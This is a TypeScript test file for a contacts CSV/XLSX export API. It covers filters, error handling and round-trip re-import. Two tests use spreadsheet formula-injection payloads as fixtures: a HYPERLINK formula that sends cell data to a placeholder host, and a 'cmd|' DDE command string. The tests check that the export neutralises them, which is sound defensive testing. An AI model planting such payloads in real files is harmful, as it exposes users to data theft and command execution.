import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createToken } from '../../auth/credentials.js'
import { createTestApp, type TestApp } from '../../test-support/app.js'
import { dialects } from '../../test-support/databases.js'
import { contactsByKey } from './export-contacts.js'
import { XLSX_TYPE } from './routes.js'

const HEADER =
  'no,type,name,searchName,firstName,middleName,surname,companyNo,companyName,jobTitle,address,address2,city,postCode,countryRegionCode,county,phoneNo,mobilePhoneNo,email,languageCode,salespersonCode,territoryCode,correspondenceType,excludeFromSegment,privacyBlocked,lastDateModified'

describe.each(dialects)('contact export on %s', (dialect) => {
  let t: TestApp
  let token: string
  const today = new Date().toISOString().slice(0, 10)
  const download = (url: string) => t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } })
  const importFile = (payload: string | Buffer, contentType = 'text/csv') =>
    t.marketer.raw({ method: 'POST', url: '/api/contacts/import', headers: { 'content-type': contentType }, payload })
  const allRows = () => t.db.kysely.selectFrom('contacts').selectAll().orderBy('no').execute()

  beforeAll(async () => {
    t = await createTestApp(dialect)
    token = (await createToken(t.db.kysely, 'viewer')).token
    const r = await importFile(
      [
        'no,type,name,firstName,surname,companyNo,city,email,excludeFromSegment',
        'E1,Company,"Delta, ""The"" Shop",,,,Odense,shop@delta.dk,',
        'E2,Person,,Eva,Holm,E1,,,yes',
        'E3,Company,Zeta,,,,Aarhus,,',
      ].join('\n'),
    )
    expect(r.body).toEqual({ inserted: 3, updated: 0, rejected: [] })
  })
  afterAll(() => t.close())

  it('writes every contact as CSV in No. order, header = API field names, as an attachment', async () => {
    const r = await download('/api/contacts/export?format=csv')
    expect(r.statusCode).toBe(200)
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(r.headers['content-disposition']).toBe('attachment; filename="contacts.csv"')
    expect(r.body).toBe(
      [
        HEADER,
        `E1,Company,"Delta, ""The"" Shop","DELTA, ""THE"" SHOP",,,,E1,"Delta, ""The"" Shop",,,,Odense,,,,,,shop@delta.dk,,,,,false,false,${today}`,
        `E2,Person,Eva Holm,EVA HOLM,Eva,,Holm,E1,"Delta, ""The"" Shop",,,,Odense,,,,,,shop@delta.dk,,,,,true,false,${today}`,
        `E3,Company,Zeta,ZETA,,,,E3,Zeta,,,,Aarhus,,,,,,,,,,,false,false,${today}`,
        '',
      ].join('\n'),
    )
  })

  it('applies the list filters, and CSV is the default format', async () => {
    const persons = await download('/api/contacts/export?filter[type]=Person')
    expect(persons.body.split('\n').map((l) => l.split(',')[0])).toEqual(['no', 'E2', ''])
    const odense = await download(
      `/api/contacts/export?format=csv&filter[city]=${encodeURIComponent('@odense')}&filter[type]=Company`,
    )
    expect(odense.body.split('\n').map((l) => l.split(',')[0])).toEqual(['no', 'E1', ''])
    const none = await download('/api/contacts/export?filter[no]=NOBODY')
    expect(none.body).toBe(`${HEADER}\n`)
  })

  it('refuses an unknown filter field or format with 400', async () => {
    const field = await download('/api/contacts/export?filter[nmae]=x')
    expect(field.statusCode).toBe(400)
    expect(JSON.parse(field.body).errors).toEqual([{ path: 'filter[nmae]', message: "unknown field 'nmae'" }])
    const format = await download('/api/contacts/export?format=pdf')
    expect(JSON.parse(format.body).errors).toEqual([{ path: 'format', message: "must be 'csv' or 'xlsx'" }])
  })

  it('is served by the export route, not by /api/contacts/:no', async () => {
    expect((await t.viewer.get('/api/contacts/E1')).body.no).toBe('E1')
    const r = await download('/api/contacts/export')
    expect(r.headers['content-disposition']).toBe('attachment; filename="contacts.csv"')
  })

  it('writes XLSX with the same header and values, booleans as booleans', async () => {
    const r = await download('/api/contacts/export?format=xlsx&filter[no]=E2')
    expect(r.headers['content-type']).toBe(XLSX_TYPE)
    expect(r.headers['content-disposition']).toBe('attachment; filename="contacts.xlsx"')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer)
    const ws = wb.getWorksheet('Contacts')!
    expect(ws.rowCount).toBe(2)
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER.split(','))
    const row = (ws.getRow(2).values as unknown[]).slice(1)
    expect(row).toEqual([
      'E2',
      'Person',
      'Eva Holm',
      'EVA HOLM',
      'Eva',
      undefined,
      'Holm',
      'E1',
      'Delta, "The" Shop',
      undefined,
      undefined,
      undefined,
      'Odense',
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
      'shop@delta.dk',
      undefined,
      undefined,
      undefined,
      undefined,
      true,
      false,
      today,
    ])
  })

  it('walks the contacts by key, a page at a time', async () => {
    const seen: string[] = []
    for await (const c of contactsByKey(t.db.kysely, { where: [] }, 2)) seen.push(c.no)
    expect(seen).toEqual(['E1', 'E2', 'E3'])
  })

  it('re-imports its CSV export unchanged: every row updated, nothing modified', async () => {
    await t.db.kysely.updateTable('contacts').set({ last_date_modified: '2020-01-01' }).execute()
    const before = await allRows()
    const csv = (await download('/api/contacts/export')).body
    const r = await importFile(csv)
    expect(r.body).toEqual({ inserted: 0, updated: 3, rejected: [] })
    expect(await allRows()).toEqual(before)
  })

  it('re-imports its XLSX export unchanged', async () => {
    const before = await allRows()
    const xlsx = (await download('/api/contacts/export?format=xlsx')).rawPayload
    const r = await importFile(xlsx, XLSX_TYPE)
    expect(r.body).toEqual({ inserted: 0, updated: 3, rejected: [] })
    expect(await allRows()).toEqual(before)
  })

  it("neutralises formulas in the CSV export with a leading ', and its re-import restores the values", async () => {
    // Given contacts whose text a spreadsheet would run as a formula
    const hostile = {
      F1: { name: '=HYPERLINK("http://x/?"&A1)', city: '-2+3', address: '@SUM(1)' },
      F2: { name: "+cmd|' /C calc'!A0", city: "'=quoted", address: 'plain' },
    }
    for (const [no, v] of Object.entries(hostile))
      await t.db.kysely
        .insertInto('contacts')
        .values({
          no,
          type: 'Company',
          name: v.name,
          search_name: no,
          company_no: no,
          company_name: v.name,
          city: v.city,
          address: v.address,
          last_date_modified: '2020-01-01',
        })
        .execute()
    const before = await allRows()
    // When they are exported as CSV
    const r = await download('/api/contacts/export?format=csv&filter[no]=F*')
    const rows = parse(r.body) as string[][]
    const cell = (no: string, field: string) => rows.find((x) => x[0] === no)?.[rows[0].indexOf(field)]
    // Then every such cell starts with ' and others are untouched
    expect([cell('F1', 'name'), cell('F1', 'city'), cell('F1', 'address')]).toEqual([
      `'=HYPERLINK("http://x/?"&A1)`,
      "'-2+3",
      "'@SUM(1)",
    ])
    expect([cell('F2', 'name'), cell('F2', 'city'), cell('F2', 'address')]).toEqual([
      "'+cmd|' /C calc'!A0",
      "''=quoted",
      'plain',
    ])
    // And importing the export again changes nothing
    expect((await importFile(r.body)).body).toEqual({ inserted: 0, updated: 2, rejected: [] })
    expect(await allRows()).toEqual(before)
  })

  it('writes the same contacts to XLSX as plain text cells, unquoted', async () => {
    const r = await download('/api/contacts/export?format=xlsx&filter[no]=F1')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer)
    const cell = wb.getWorksheet('Contacts')!.getRow(2).getCell(3)
    expect(cell.value).toBe('=HYPERLINK("http://x/?"&A1)')
    expect(cell.type).toBe(ExcelJS.ValueType.String)
  })
})
